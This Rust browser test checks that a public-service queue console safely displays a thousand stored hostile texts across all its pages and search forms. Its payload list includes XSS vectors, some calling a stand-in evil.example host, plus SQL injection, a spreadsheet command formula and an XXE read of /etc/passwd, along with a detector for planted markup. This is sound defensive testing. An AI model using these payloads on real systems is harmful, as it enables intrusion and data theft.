//! A thousand hostile texts in every place where a text survives, on every page that shows them: nothing of them runs, no policy is
//! broken, and no layout breaks.
//!
//! A page of the console that shows what others wrote gets a line in [`PAGES`]; whoever keeps a text that pages show adds where it is
//! kept to `fill`.

use antrean::domain::office::{Approval, Earliest};
use antrean::domain::person::Nama;
use antrean::domain::staff::Role;
use antrean::domain::visit::Reason;
use antrean::front_desk::{Press, Which};
use fantoccini::{Client, Locator};
use serde_json::{Value, json};

use super::WAIT;
use crate::front_desk::{TO_TUESDAY, book, by, front};
use crate::support::browser::desk_stage::DeskStage;
use crate::support::browser::driver::{OFFICE, PHONE, Screen, devtools, keep_picture, with_browser};
use crate::support::desk_fixture::DeskFixture;
use crate::support::engine::Engine;
use crate::support::installation::number;

/// Hostile texts, at least.
const TEXTS: usize = 1_000;
/// Citizens who write them, as many each.
const CITIZENS: usize = 20;

/// What is tried: markup, addresses, templates, formats of documents, directions of writing, endless words.
const HOSTILE: [&str; 40] = [
    "<script>window.broken=N</script>",
    "<img src=x onerror=window.broken=N>",
    "\"><svg onload=window.broken=N>",
    "'><body onpageshow=window.broken=N>",
    "</textarea><script>window.broken=N</script>",
    "</title><script>window.broken=N</script>",
    "</style><script>window.broken=N</script>",
    "--><script>window.broken=N</script><!--",
    "<iframe srcdoc=\"<script>parent.broken=N</script>\"></iframe>",
    "<a href=\"javascript:window.broken=N\" autofocus onfocus=window.broken=N>N</a>",
    "<form action=https://evil.example/N><button>Kirim lagi</button></form>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/N\">",
    "<base href=https://evil.example/N/>",
    "<link rel=stylesheet href=https://evil.example/N.css>",
    "<style>*{display:none}</style>N",
    "<div style=\"position:fixed;inset:0;background:red\">N</div>",
    "<div hx-get=\"https://evil.example/N\" hx-trigger=load hx-on:load=\"window.broken=N\">",
    "<div hx-sse:connect=\"https://evil.example/N\"></div>",
    "<template><script>window.broken=N</script></template>",
    "<object data=\"data:text/html,<script>window.broken=N</script>\"></object>",
    "<input autofocus onfocus=window.broken=N>",
    "<details open ontoggle=window.broken=N>",
    "<video><source onerror=window.broken=N></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.broken=N>",
    "{{ frame.t.problem }} {% include \"x\" %} ${window.broken=N}",
    "javascript:window.broken=N//",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuYnJva2VuPTE8L3NjcmlwdD4=N",
    "' or 1=1; drop table booking; -- N",
    "=cmd|'/c calc'!A1N",
    "&lt;script&gt;window.broken=N&lt;/script&gt;",
    "\u{202e}gnp.ktp N\u{202e}\u{2066}",
    "N\u{200b}\u{200d}\u{feff}\u{2028}\u{2029}",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}N",
    "\u{0b}\u{0c}\u{1b}[2J\u{7f}N",
    "*<b>tebal</b>* _<i>miring</i>_ ~N~",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466} \u{fdfd}\u{12031} N",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaN",
    "\n\n\n\n\n\n\n\n\n\n\n\nN",
    "]]><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>N",
    "\\\"\\u003cscript\\u003ewindow.broken=N",
];

/// The pages that show what others wrote, and what has to be there before they are judged. `{talk}` and `{code}` are one of each.
const PAGES: [(&str, &str); 25] = [
    ("", "h1"),
    ("today", "#list tr[id]"),
    ("find", "#what"),
    ("booking/{code}", ".facts"),
    ("check-in", "[data-scan]"),
    ("counter", "h1"),
    ("counter?at=1", "#desk"),
    ("counter?at=2", "#desk"),
    ("paper", "#paper"),
    ("paper/enter", "h1"),
    ("displays", "#displays"),
    ("conversations", "#list tr[id]"),
    ("conversations?show=tickets", "#list tr[id]"),
    ("conversations?show=dead", "#list tr[id]"),
    ("conversations?show=held", "#list tr[id]"),
    ("conversations/misread", "h1"),
    ("channels", ".channel"),
    ("calendar", "#changes li"),
    ("settings", "h1"),
    ("settings/text", "#text"),
    ("settings/holidays", "#days"),
    ("settings/versions", "h1"),
    ("format", "#line"),
    ("reports", "#in-short"),
    ("audit", "#trail"),
];

/// Hears every report of a policy, from before the page's first byte.
const LISTENER: &str = "window.reports = []; addEventListener('securitypolicyviolation', event => { \
    window.reports.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`); });";

fn hostile(n: usize) -> String {
    HOSTILE[n % HOSTILE.len()].replace('N', &n.to_string())
}

/// Names as odd as names can be: the type of a name takes no markup.
fn odd_name(n: usize) -> String {
    let long = "W".repeat(60);
    let names = [
        "D'Souza-O'Neil, S.H., M.Kn.",
        "\u{645}\u{62d}\u{645}\u{62f} \u{639}\u{628}\u{62f}",
        "\u{738b}\u{5c0f}\u{660e}",
        &long,
    ];
    Nama::read(names[n % names.len()]).unwrap().as_str().to_owned()
}

/// A text as a statement writes it.
fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

/// Puts hostile texts wherever one is kept: what citizens wrote and got, names, walk-ins, reasons, errors, logins.
async fn filled(engine: Engine) -> (DeskStage, String) {
    let fixture = DeskFixture::of_bogor(engine, |bogor| {
        bogor.seats_per_hour = 10;
        let policy = &mut bogor.policy;
        policy.earliest = Earliest::Today { minutes_before: 0 };
        (policy.approval, policy.arrivals, policy.handover) = (Approval::None, true, true);
    })
    .await;
    let mut codes = Vec::new();
    for n in 1..=CITIZENS {
        codes.push(book(&fixture, n).await);
    }
    let stage = DeskStage::of(fixture).await;
    let fixture = &stage.fixture;
    fixture.pass(TO_TUESDAY - 20);
    // On the day that the pages show.
    chats(fixture).await;
    let desk = front(fixture, "siti");
    for code in &codes[..8] {
        desk.arrive(by(code), Press::default()).await.unwrap().unwrap();
    }
    let name = Nama::read("Budi").unwrap();
    for _ in 0..4 {
        desk.walk_in(Some(name.clone()), Some(Reason::Elderly), Press::default()).await.unwrap().unwrap();
    }
    fixture.pass(20);
    for counter in [1, 2] {
        desk.open_counter(counter).await.unwrap().unwrap();
        desk.call_next(counter, Press::default()).await.unwrap().unwrap();
    }
    desk.came(Which::At(1), Press::default()).await.unwrap().unwrap();
    corrupted(fixture).await;
    (stage, codes[12].clone())
}

/// Citizens who write a thousand hostile texts to an officer, which are kept as they are.
async fn chats(fixture: &DeskFixture) {
    for n in 1..=CITIZENS {
        fixture.ask(n, &format!("wamid.officer{n}"), "#petugas").await;
    }
    let mut items = Vec::new();
    for text in 0..TEXTS {
        items.push(fixture.message(1 + text % CITIZENS, &format!("wamid.hostile{text}"), &hostile(text)));
    }
    fixture.desk.serve(items).await.unwrap();
}

/// What the program itself would never keep, or only after somebody's mistake: written past it, so that no page relies on a check
/// that another module makes.
async fn corrupted(fixture: &DeskFixture) {
    let mut tables = fixture.tables().await;
    let bookings = tables.texts("select cast(id as text) from booking order by id").await;
    for (n, id) in bookings.iter().enumerate() {
        let applicant = tables.texts(&format!("select applicant from booking where id = {id}")).await.remove(0);
        let mut applicant: Value = serde_json::from_str(&applicant).unwrap();
        applicant["nama"] = json!(odd_name(n));
        tables.run(&format!("update booking set applicant = {} where id = {id}", quoted(&applicant.to_string()))).await;
    }
    let replies = tables.texts("select cast(id as text) from outbox order by id").await;
    for (n, id) in replies.iter().enumerate() {
        let (text, error) = (quoted(&hostile(n)), quoted(&hostile(n + 7)));
        let state = ["dead", "held", "sent", "expired"][n % 4];
        tables
            .run(&format!("update outbox set text = {text}, error = {error}, state = '{state}' where id = {id}"))
            .await;
    }
    for (n, id) in tables.texts("select cast(id as text) from visit where booking is null").await.iter().enumerate() {
        tables.run(&format!("update visit set name = {} where id = {id}", quoted(&odd_name(n)))).await;
    }
    let login = quoted(&hostile(1));
    tables.run(&format!("update visit_event set actor = {login}")).await;
    tables
        .run(&format!(
            "insert into ticket_holder (ticket, login, since_us) select id, {login}, opened_us from ticket where id % 2 = 0"
        ))
        .await;
    tables
        .run(&format!(
            "insert into ticket_typing (ticket, login, at_us) select id, {login}, 9999999999999999 from ticket"
        ))
        .await;
    let reason = quoted(&hostile(3));
    tables
        .run(&format!(
            "insert into channel (channel, state, reason, since_us, next_us, rest_us, faults, turn_us) \
             values ('wa/1001', 'paused', {reason}, 0, 0, 0, 0, 0) \
             on conflict (channel) do update set state = 'paused', reason = excluded.reason"
        ))
        .await;
    tables
        .run(&format!(
            "insert into calendar_change (id, office, at_us, actor, what, days, reason, settle_us, state, ended_us, ended_by) \
             values (1, 'bogor', 0, {login}, 'close', '[[\"2026-08-05\",null,null]]', {reason}, 0, 'done', 0, {login})"
        ))
        .await;
    tables
        .run(&format!(
            "insert into calendar_day (office, date, hours, reason) values ('bogor', '2026-08-05', '[]', {reason})"
        ))
        .await;
    tables.run(&format!("update office_version set actor = {login}, why = {reason}")).await;
    // Rows of before there was a chain have no hash.
    tables
        .run(&format!(
            "insert into audit (id, at_us, staff, login, network, office, act, kind, subject, scope, why, hash) \
             values (0, 0, null, {login}, {reason}, 'bogor', 'booking-seen', 'booking', '1', {login}, {reason}, '')"
        ))
        .await;
    let item = json!({ "channel": "wa/1001", "contact": hostile(5), "id": "wamid.aside", "sent_at": fixture.now(),
        "content": { "text": hostile(6) } });
    let item = fixture_item(&item);
    tables
        .run(&format!(
            "insert into set_aside (id, channel, message, office, item, reason, at_us, state) \
             values (1, 'wa/1001', 'wamid.aside', 'bogor', {}, {reason}, 0, 'kept')",
            quoted(&item)
        ))
        .await;
    tables
        .run(&format!(
            "insert into display (id, office, name, token, added_us, added_by, sound) \
             values (1, 'bogor', {reason}, 'x', 0, {login}, 'unknown')"
        ))
        .await;
}

/// An inbound as the table keeps it, with the texts of `wanted` in it.
fn fixture_item(wanted: &Value) -> String {
    use antrean::domain::message::{ChannelId, Contact, Content, Inbound, MessageId};
    let text = |key: &str| wanted[key].as_str().unwrap().to_owned();
    let inbound = Inbound {
        channel: ChannelId::new("wa", "1001"),
        contact: Contact::new(text("contact")),
        also: Vec::new(),
        id: MessageId::new("wamid.aside"),
        sent_at: serde_json::from_value(wanted["sent_at"].clone()).unwrap(),
        content: Content::Text(wanted["content"]["text"].as_str().unwrap().to_owned()),
    };
    serde_json::to_string(&inbound).unwrap()
}

/// What is wrong with what is shown.
async fn faults(client: &Client, page: &str) -> Vec<String> {
    let script = "return {
        broken: window.broken ?? null,
        reports: window.reports,
        wide: document.documentElement.scrollWidth > innerWidth,
        planted: [...document.querySelectorAll('main script, main iframe, main object, main video:not(#camera-picture), main math, main base, main meta, \
            main style, [onerror], [onload], [onfocus], [ontoggle], [srcdoc], a[href^=\"javascript:\"], a[href*=\"evil.example\"], \
            form[action*=\"evil.example\"], main [style]')].map(it => it.outerHTML.slice(0, 80)),
        strange: [...document.querySelectorAll('[hx-get], [hx-sse\\\\:connect]')].filter(it => it.outerHTML.includes('evil')).length,
        hidden: !document.querySelector('h1')?.checkVisibility(),
    }";
    let seen = client.execute(script, vec![]).await.unwrap();
    let mut faults = Vec::new();
    let is_empty = |value: &Value| value.as_array().is_some_and(Vec::is_empty);
    if !seen["broken"].is_null() {
        faults.push(format!("{page}: a text ran: {}", seen["broken"]));
    }
    for list in ["reports", "planted"] {
        if !is_empty(&seen[list]) {
            faults.push(format!("{page}: {list}: {}", seen[list]));
        }
    }
    if seen["wide"] == json!(true) {
        faults.push(format!("{page}: wider than the screen"));
    }
    if seen["hidden"] == json!(true) || seen["strange"] != json!(0) {
        faults.push(format!("{page}: {seen}"));
    }
    faults
}

/// Waits until a page shows what it is judged by.
async fn until_there(client: &Client, page: &str, ready: &str) {
    let is_there = client.wait().at_most(WAIT).for_element(Locator::Css(ready)).await.is_ok();
    let text = client.execute("return document.body.innerText", vec![]).await.unwrap();
    assert!(is_there, "{page:?} never had {ready}:\n{}", text.as_str().unwrap_or_default());
}

/// Walks all pages on a screen; gives what is wrong, and how many of the texts were seen.
async fn walk(stage: &DeskStage, token: &str, code: &str, screen: Screen) -> (Vec<String>, usize) {
    let (mut wrong, mut seen) = (Vec::new(), std::collections::BTreeSet::new());
    with_browser(screen, async |client| {
        let listen = json!({ "cmd": "Page.addScriptToEvaluateOnNewDocument", "params": { "source": LISTENER } });
        devtools(client, listen).await;
        let mut pages: Vec<(String, &str)> =
            PAGES.into_iter().map(|(page, ready)| (page.replace("{code}", code), ready)).collect();
        // Every citizen's conversation: each holds a part of the texts.
        let mut tables = stage.fixture.tables().await;
        for n in 1..=CITIZENS {
            let sql = format!("select cast(max(id) as text) from outbox where contact = '{}'", number(n));
            pages.push((format!("conversations/{}", tables.texts(&sql).await.remove(0)), "#lines li"));
        }
        for (page, ready) in &pages {
            stage.enter(client, token, page).await;
            until_there(client, page, ready).await;
            wrong.extend(faults(client, page).await);
            let text = client.execute("return document.body.textContent", vec![]).await.unwrap();
            let text = text.as_str().unwrap_or_default();
            seen.extend((0..TEXTS).filter(|n| text.contains(hostile(*n).trim())));
        }
        keep_picture(client, "hostile-talk").await;
        // What somebody searches for comes back, too.
        for n in [0, 1, 4, 5] {
            for page in ["find", "conversations"] {
                stage.enter(client, token, page).await;
                let search = "document.querySelector('#what').removeAttribute('minlength');
                    document.querySelector('#what').value = arguments[0]; document.querySelector('.find').submit()";
                client.execute(search, vec![json!(hostile(n))]).await.unwrap();
                super::until(client, "document.readyState === 'complete' && !document.querySelector('#more')").await;
                wrong.extend(faults(client, &format!("{page} for {n}")).await);
            }
            stage.enter(client, token, "audit").await;
            let filter =
                "document.querySelector('#by').value = arguments[0]; document.querySelector('#filter').submit()";
            client.execute(filter, vec![json!(hostile(n))]).await.unwrap();
            super::until(client, "document.readyState === 'complete' && location.search").await;
            wrong.extend(faults(client, &format!("audit by {n}")).await);
        }
    })
    .await;
    (wrong, seen.len())
}

// Negative controls: with `|safe` behind the words in `lines.html`, markup is planted and a policy is broken; without `overflow-wrap`,
// pages are wider than a phone.
#[tokio::test]
async fn a_thousand_hostile_texts_do_nothing_on_any_page() {
    let (stage, code) = filled(Engine::Sqlite).await;
    let agus = stage.enrol("agus", Role::Supervisor).await;
    let (wrong, seen) = walk(&stage, &agus, &code, OFFICE).await;
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert!(seen >= TEXTS * 9 / 10, "only {seen} of the texts were on the pages");
    let (wrong, _) = walk(&stage, &agus, &code, PHONE).await;
    assert!(wrong.is_empty(), "{wrong:#?}");
}

// A control of the judge: what it must find is planted in a page that has no policy.
#[tokio::test]
async fn the_judge_finds_what_is_planted() {
    with_browser(OFFICE, async |client| {
        devtools(client, json!({ "cmd": "Page.addScriptToEvaluateOnNewDocument", "params": { "source": LISTENER } }))
            .await;
        client.goto("data:text/html,<main><h1>x</h1><img src=x onerror=window.broken=1></main>").await.unwrap();
        super::until(client, "window.broken === 1").await;
        let found = faults(client, "planted").await;
        assert_eq!(found.len(), 2, "{found:?}");
    })
    .await;
}
